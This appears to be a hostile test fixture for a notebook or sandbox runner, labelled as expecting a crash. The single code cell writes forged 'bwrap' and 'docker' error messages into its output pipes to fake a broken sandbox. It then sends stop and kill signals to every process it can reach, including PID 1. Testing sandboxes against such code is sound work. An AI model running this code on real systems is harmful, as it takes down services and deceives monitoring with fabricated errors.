# /// hostile
# about = "A cell forges the words of a broken sandbox and kills every process that it can reach."
# score = 1.0
# causes = {}
# cells = { 1 = "crash" }
# ///
# %%
import contextlib
import os
import signal

for fd in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
            os.write(int(fd), b"bwrap: Can't mount proc\ndocker: Error response from daemon\n" * 3)
    except OSError:
        continue
for number in (signal.SIGSTOP, signal.SIGKILL):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) not in (os.getpid(), 1):
            with contextlib.suppress(PermissionError):
                os.kill(int(pid), number)
    with contextlib.suppress(PermissionError):
        os.kill(1, number)
